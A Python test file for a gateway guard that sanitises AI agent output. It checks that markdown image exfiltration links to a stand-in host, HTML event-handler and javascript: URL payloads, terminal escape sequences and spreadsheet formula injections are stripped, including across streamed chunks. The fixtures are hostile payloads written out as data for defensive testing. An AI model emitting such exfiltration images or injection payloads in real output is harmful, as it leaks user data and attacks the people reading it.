"""C23 output sanitisation, guard level: configuration, A2A payload walk, streamed events."""

from __future__ import annotations

import copy
from typing import Any

import pytest
from markdown_it import MarkdownIt
from pydantic import ValidationError

from maestro_gateway.context import RequestContext
from maestro_gateway.guards.sanitize import SanitizeGuard, SanitizeGuardConfig
from maestro_gateway.types import JSON, Verdict, VerdictKind

RENDER = MarkdownIt("commonmark")
EXFIL = "![x](https://evil.example/leak?d=SECRET)"


def guard(**cfg: Any) -> SanitizeGuard:
    return SanitizeGuard(SanitizeGuardConfig.model_validate(cfg))


def ctx() -> RequestContext:
    return RequestContext("req-1", "agent", "SendStreamingMessage", {})


def message(*parts: dict[str, Any]) -> dict[str, Any]:
    return {"messageId": "m1", "role": "ROLE_AGENT", "parts": list(parts)}


def after(payload: JSON, verdict: Verdict) -> JSON:
    assert verdict.kind in (VerdictKind.ALLOW, VerdictKind.MUTATE)
    return verdict.payload if verdict.kind is VerdictKind.MUTATE else payload


def test_config_refuses_tags_and_attributes_that_run_code() -> None:
    """An allowlist naming script/iframe/svg or on*/style/srcdoc is a configuration error."""
    for bad in (
        {"allowed_tags": ["b", "SCRIPT"]},
        {"allowed_tags": ["svg"]},
        {"allowed_attributes": {"a": ["onclick"]}},
        {"allowed_attributes": {"*": ["style"]}},
        {"allowed_attributes": {"iframe": ["srcdoc"]}},
    ):
        with pytest.raises(ValidationError, match="cannot be allowed"):
            SanitizeGuardConfig.model_validate({"html": bad})


def test_config_normalises_domains_and_rejects_junk() -> None:
    """Domains are lower-cased, ``*.`` and trailing dots dropped, IDNs punycoded; junk refused."""
    md = {"allowed_link_domains": ["Docs.Example.", "*.corp.example", "bücher.example", "*"]}
    cfg = SanitizeGuardConfig.model_validate({"markdown": md})
    assert cfg.markdown.allowed_link_domains == [
        "docs.example",
        "corp.example",
        "xn--bcher-kva.example",
        "*",
    ]
    for junk in ("https://x.example", "a b", "evil.example/path"):
        with pytest.raises(ValidationError):
            SanitizeGuardConfig.model_validate({"markdown": {"allowed_image_domains": [junk]}})
    with pytest.raises(ValidationError):
        SanitizeGuardConfig.model_validate({"csv_formulas": True})


async def test_requests_are_never_touched() -> None:
    """on_request allows whatever the request holds (output guard only)."""
    c = RequestContext("r", "a", "SendMessage", {"message": message({"text": "\x1b[31m" + EXFIL})})
    assert (await guard().on_request(c)).kind is VerdictKind.ALLOW
    assert (await guard().on_response(c, c.params)).kind is VerdictKind.MUTATE


async def test_benign_response_is_allowed_without_mutation() -> None:
    """Ordinary text, data and file parts give ALLOW, and the payload object is untouched."""
    payload: Any = {
        "task": {
            "id": "t",
            "status": {"state": "TASK_STATE_COMPLETED"},
            "artifacts": [
                {
                    "artifactId": "a",
                    "parts": [
                        {"text": "Result: 42\n\tfine"},
                        {"data": {"rows": [1, 2]}},
                        {"url": "https://files.example/r.pdf"},
                    ],
                }
            ],
        }
    }
    before = copy.deepcopy(payload)
    verdict = await guard(default_mode="text/markdown").on_response(ctx(), payload)
    assert verdict.kind is VerdictKind.ALLOW
    assert payload == before
    payload["task"]["artifacts"][0]["parts"][0]["text"] += EXFIL
    assert (
        await guard(default_mode="text/markdown").on_response(ctx(), payload)
    ).kind is VerdictKind.MUTATE


async def test_every_part_of_a_task_is_sanitised_and_the_original_kept() -> None:
    """Status message, history, artifacts and data parts are cleaned in a copy along the path."""
    untouched = {"artifactId": "clean", "parts": [{"text": "ok"}]}
    payload: Any = {
        "task": {
            "id": "t",
            "contextId": "c",
            "status": {
                "state": "TASK_STATE_COMPLETED",
                "message": message({"text": "\x1b[2Jdone"}),
            },
            "history": [
                message({"text": "hi"}),
                message({"text": EXFIL, "mediaType": "text/markdown"}),
            ],
            "artifacts": [
                untouched,
                {
                    "artifactId": "a",
                    "name": "r\x1b]52;c;eA==\x07",
                    "parts": [
                        {"text": "<img src=x onerror=alert(1)>", "mediaType": "text/html"},
                        {"data": [["name", "total"], ["x", '=HYPERLINK("https://evil.example")']]},
                        {"data": {"log": "\x1b[31mred"}},
                        {"url": "javascript:alert(1)", "mediaType": "text/html"},
                    ],
                },
            ],
        }
    }
    before = copy.deepcopy(payload)
    verdict = await guard(default_mode="text/markdown").on_response(ctx(), payload)
    assert verdict.kind is VerdictKind.MUTATE
    assert verdict.guard == "sanitize"
    task = verdict.payload["task"]
    assert task["status"]["message"]["parts"] == [{"text": "done"}]
    assert task["history"][0] is payload["task"]["history"][0]
    assert task["history"][1]["parts"][0]["text"] == "x"
    assert task["artifacts"][0] is untouched
    art = task["artifacts"][1]
    assert art["name"] == "r"
    assert art["parts"][0] == {"text": '<img src="x">', "mediaType": "text/html"}
    assert art["parts"][1]["data"][1] == ["x", '\'=HYPERLINK("https://evil.example")']
    assert art["parts"][2]["data"] == {"log": "red"}
    assert art["parts"][3] == {"text": "[unsafe URL removed]"}
    assert payload == before


async def test_modes_follow_force_mode_then_media_type_then_container_then_default() -> None:
    """force_mode beats a part's mediaType; metadata.mediaType of the message beats default_mode."""
    plain_labelled = {"message": message({"text": EXFIL, "mediaType": "text/plain"})}
    assert (await guard().on_response(ctx(), plain_labelled)).kind is VerdictKind.ALLOW
    forced = await guard(force_mode="text/markdown").on_response(ctx(), plain_labelled)
    assert after(plain_labelled, forced)["message"]["parts"][0]["text"] == "x"
    container = {
        "message": {**message({"text": EXFIL}), "metadata": {"mediaType": "text/markdown"}}
    }
    assert (
        after(container, await guard().on_response(ctx(), container))["message"]["parts"][0]["text"]
        == "x"
    )


async def test_text_parts_that_only_together_form_an_image_are_merged() -> None:
    """Markdown parts a UI joins are judged together; other parts are kept beside them."""
    parts: list[dict[str, Any]] = [
        {"data": {"k": 1}},
        {"text": "see ![x](https://evil.ex"},
        {"text": "ample/l?d=S) ok"},
    ]
    payload = {"message": {**message(*parts), "metadata": {"mediaType": "text/markdown"}}}
    out = after(payload, await guard().on_response(ctx(), payload))["message"]["parts"]
    assert out == [{"text": "see x ok"}, {"data": {"k": 1}}]


async def test_switches_turn_parts_of_the_guard_off() -> None:
    """enabled: false allows everything; scan_data_parts: false leaves data parts alone."""
    payload = {"message": message({"data": {"x": "\x1b[31m=cmd"}})}
    assert (await guard(enabled=False).on_response(ctx(), payload)).kind is VerdictKind.ALLOW
    assert (
        await guard(scan_data_parts=False).on_response(ctx(), payload)
    ).kind is VerdictKind.ALLOW
    assert (await guard().on_response(ctx(), payload)).kind is VerdictKind.MUTATE


async def test_list_tasks_results_are_walked() -> None:
    """ListTasks results ({tasks: [...]}) have each task's messages sanitised."""
    payload = {
        "tasks": [
            {
                "id": "t",
                "status": {"state": "TASK_STATE_WORKING", "message": message({"text": "\x9b2Jx"})},
            }
        ],
        "nextPageToken": "",
    }
    out = after(payload, await guard().on_response(ctx(), payload))
    assert out["tasks"][0]["status"]["message"]["parts"][0]["text"] == "x"


class Client:
    """What an A2A client holds per artifact: parts appended, or replaced when append is false."""

    def __init__(self) -> None:
        self.parts: dict[str, list[dict[str, Any]]] = {}

    def apply(self, event: JSON) -> None:
        update = event["artifactUpdate"]
        aid, parts = update["artifact"]["artifactId"], update["artifact"]["parts"]
        self.parts[aid] = [*self.parts[aid], *parts] if update.get("append") else list(parts)

    def text(self, aid: str) -> str:
        return "".join(p.get("text", "") for p in self.parts[aid])


def chunk(text: str, append: bool, aid: str = "a", **part: Any) -> dict[str, Any]:
    return {
        "artifactUpdate": {
            "taskId": "t",
            "contextId": "c",
            "append": append,
            "artifact": {"artifactId": aid, "parts": [{"text": text, **part}]},
        }
    }


async def stream(g: SanitizeGuard, chunks: list[str], **part: Any) -> Client:
    client, c = Client(), ctx()
    for i, text in enumerate(chunks):
        event = chunk(text, i > 0, **part)
        client.apply(after(event, await g.on_stream_event(c, event)))
    return client


async def test_each_streamed_event_is_sanitised() -> None:
    """Every artifact chunk and status update in a stream is sanitised on its own."""
    g, c = guard(default_mode="text/markdown"), ctx()
    first = await g.on_stream_event(c, chunk(f"a {EXFIL}\n\n", False))
    second = await g.on_stream_event(c, chunk(f"b {EXFIL}", True))
    status = {
        "statusUpdate": {
            "taskId": "t",
            "contextId": "c",
            "status": {"state": "TASK_STATE_WORKING", "message": message({"text": "\x1b[5mx"})},
        }
    }
    third = await g.on_stream_event(c, status)
    assert first.payload["artifactUpdate"]["artifact"]["parts"][0]["text"] == "a x\n\n"
    assert second.payload["artifactUpdate"]["artifact"]["parts"][0]["text"] == "b x"
    assert third.payload["statusUpdate"]["status"]["message"]["parts"][0]["text"] == "x"


@pytest.mark.parametrize("cut", [6, 10, 20, 30, 38])
async def test_an_image_split_across_chunks_never_renders(cut: int) -> None:
    """The client's concatenated markdown holds no exfiltration image, wherever the split falls."""
    text = f"Done: {EXFIL} thanks"
    client = await stream(guard(default_mode="text/markdown"), [text[:cut], text[cut:]])
    assert "evil" not in RENDER.render(client.text("a")).split("<img")[
        -1
    ] or "<img" not in RENDER.render(client.text("a"))
    assert "<img" not in RENDER.render(client.text("a"))


async def test_a_link_completed_by_a_later_chunk_is_caught() -> None:
    """A fence closed, then a link opened in one chunk and finished in the next, is caught."""
    chunks = ["Intro\n\n```\ncode\n", "```\n[click](https://evil.example/x", ") and more"]
    client = await stream(guard(default_mode="text/markdown"), chunks)
    rendered = RENDER.render(client.text("a"))
    assert "<pre><code>code" in rendered
    assert "click and more" in rendered
    assert "<a" not in rendered


@pytest.mark.parametrize(
    "chunks",
    [
        ["Look ![x][foo] ok\n\n[foo]:\n", "//evil.example/leak?d=SECRET\n"],
        ["a `\n![x](https://evil.example/leak?d=SECRET)\nmore`", "`"],
    ],
)
async def test_chunks_without_brackets_cannot_reopen_earlier_text(chunks: list[str]) -> None:
    """A definition target on a new line, or a backtick breaking a code span, is re-checked."""
    client = await stream(guard(default_mode="text/markdown"), chunks)
    assert "evil" not in "".join(RENDER.render(client.text("a")).split("<img")[1:])


async def test_split_terminal_and_json_escapes_do_not_rejoin() -> None:
    """An ESC sequence or a JSON \\u001b escape split across chunks never reaches the client."""
    plain = await stream(guard(), ["red\x1b[3", "1mtext"])
    assert "\x1b" not in plain.text("a")
    js = await stream(guard(), ['{"a": "x\\u00', '1b[31my"}'], mediaType="application/json")
    assert "\\u001b" not in js.text("a").lower()


async def test_split_csv_formula_is_prefixed_in_context() -> None:
    """A number that becomes a formula with the next chunk gets the prefix in the client's view."""
    client = await stream(guard(), ["a,-5", "+cmd|x\n"], mediaType="text/csv")
    assert client.text("a") == "a,'-5+cmd|x\n"


async def test_appending_to_an_artifact_this_stream_never_saw_is_escaped() -> None:
    """Appends whose earlier text is unknown (resubscribed stream) are made inert."""
    g, c = guard(default_mode="text/markdown"), ctx()
    verdict = await g.on_stream_event(c, chunk("](https://evil.example/x) [a](b)", True))
    text = verdict.payload["artifactUpdate"]["artifact"]["parts"][0]["text"]
    for before in ("", "[y", "![y", "\\", "<"):
        rendered = RENDER.render(before + text)
        assert "<a" not in rendered
        assert "<img" not in rendered
        assert "https://evil" not in rendered
    assert "](hxxps[:]//evil[.]example/x) [a](b)" in RENDER.render(text)


async def test_a_task_event_seeds_the_stream_context() -> None:
    """After a task snapshot, appends are judged in its context: exfil caught, prose not escaped."""
    g, c, client = guard(default_mode="text/markdown"), ctx(), Client()
    task = {
        "task": {
            "id": "t",
            "status": {"state": "TASK_STATE_WORKING"},
            "artifacts": [{"artifactId": "a", "parts": [{"text": "see ![x](https://evil.ex"}]}],
        }
    }
    snap = after(task, await g.on_stream_event(c, task))
    client.parts["a"] = snap["task"]["artifacts"][0]["parts"]
    for text in ("ample/leak?d=S)", "\n\nplain (text)"):
        client.apply(after(chunk(text, True), await g.on_stream_event(c, chunk(text, True))))
    assert "<img" not in RENDER.render(client.text("a"))
    assert client.text("a").endswith("\n\nplain (text)")
